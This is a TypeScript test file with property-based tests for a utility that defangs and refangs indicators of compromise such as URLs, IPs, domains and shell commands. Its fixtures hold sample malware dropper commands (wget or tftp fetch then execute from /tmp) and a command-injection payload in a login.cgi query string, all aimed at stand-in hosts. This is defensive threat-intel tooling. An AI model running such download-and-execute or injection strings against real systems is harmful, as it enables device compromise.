import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { defang, refang } from "./defang.js";

const octet = fc.integer({ min: 0, max: 255 });
const ipv4 = fc.tuple(octet, octet, octet, octet).map((o) => o.join("."));
const label = fc.stringMatching(/^[a-z][a-z0-9-]{0,10}[a-z0-9]$/);
const domain = fc
  .tuple(
    fc.array(label, { minLength: 1, maxLength: 3 }),
    fc.constantFrom("com", "net", "org", "gq", "ru", "cc"),
  )
  .map(([ls, tld]) => `${ls.join(".")}.${tld}`);
const path = fc
  .array(fc.stringMatching(/^[A-Za-z0-9._-]{1,8}$/), { maxLength: 3 })
  .map((p) => `/${p.join("/")}`);
const url = fc
  .tuple(
    fc.constantFrom("http", "https", "ftp", "tftp"),
    fc.oneof(ipv4, domain),
    fc.option(fc.integer({ min: 1, max: 65535 })),
    path,
  )
  .map(([s, h, p, pa]) => `${s}://${h}${p === null ? "" : `:${p}`}${pa}`);

describe("defang", () => {
  it("defangs each IoC type as documented", () => {
    expect(defang("http://198.51.100.7/r", "url")).toBe("hxxp://198.51.100[.]7/r");
    expect(defang("https://evil.example.com:8080/bins.sh", "url")).toBe(
      "hxxps://evil.example[.]com:8080/bins.sh",
    );
    expect(defang("tftp://203.0.113.8/bigH", "url")).toBe("tfxp://203.0.113[.]8/bigH");
    expect(defang("198.51.100.7", "ipv4")).toBe("198.51.100[.]7");
    expect(defang("c.sunnyjuly.gq", "domain")).toBe("c.sunnyjuly[.]gq");
    expect(defang("198.51.100.7", "downloader")).toBe("198.51.100[.]7");
    expect(defang("2001:db8::1", "ipv6")).toBe("2001[:]db8[:][:]1");
    expect(defang("/tmp/bins.sh", "filename")).toBe("/tmp/bins.sh");
    expect(defang("wget http://198.51.100.7/r -O - > /tmp/r; sh /tmp/r", "command")).toBe(
      "wget hxxp://198.51.100[.]7/r -O - > /tmp/r; sh /tmp/r",
    );
    expect(defang("tftp -g -r mips 203.0.113.77; ./bins.sh; ping evil.example.org")).toBe(
      "tftp -g -r mips 203.0.113[.]77; ./bins.sh; ping evil.example[.]org",
    );
  });

  it("is idempotent and leaves nothing clickable", () => {
    fc.assert(
      fc.property(url, (u) => {
        const d = defang(u, "url");
        return defang(d, "url") === d && !/(https?|t?ftp):\/\//.test(d) && d.includes("[.]");
      }),
    );
  });

  it("is undone by refang", () => {
    fc.assert(fc.property(url, (u) => refang(defang(u, "url")) === u));
    fc.assert(fc.property(ipv4, (v) => refang(defang(v, "ipv4")) === v));
    fc.assert(fc.property(domain, (v) => refang(defang(v, "domain")) === v));
    fc.assert(
      fc.property(url, ipv4, domain, (u, ip, d) => {
        const cmd = `cd /tmp; wget ${u} -O x; tftp -g -r x ${ip}; ping ${d}`;
        return refang(defang(cmd, "command")) === cmd;
      }),
    );
    expect(refang("hXXp://evil(.)example[dot]com/x")).toBe("http://evil.example.com/x");
  });
});

describe("defang in query strings", () => {
  it("catches a URL glued to a percent escape", () => {
    expect(defang("GET /login.cgi?cli=aa%27;wget%20http://198.51.100.7/r")).toBe(
      "GET /login.cgi?cli=aa%27;wget%20hxxp://198.51.100[.]7/r",
    );
  });
});
